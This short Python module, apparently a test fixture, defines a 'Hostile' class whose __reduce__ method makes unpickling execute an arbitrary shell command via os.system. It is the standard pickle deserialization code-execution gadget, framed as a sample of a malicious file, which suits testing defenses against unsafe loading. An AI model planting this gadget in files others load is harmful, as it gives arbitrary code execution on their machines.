"""What a file holds whose author wants more than to be read."""

from __future__ import annotations

import os
from typing import Any


class Hostile:
    """Its pickle runs a command."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[Any, ...]:
        return os.system, (self.command,)
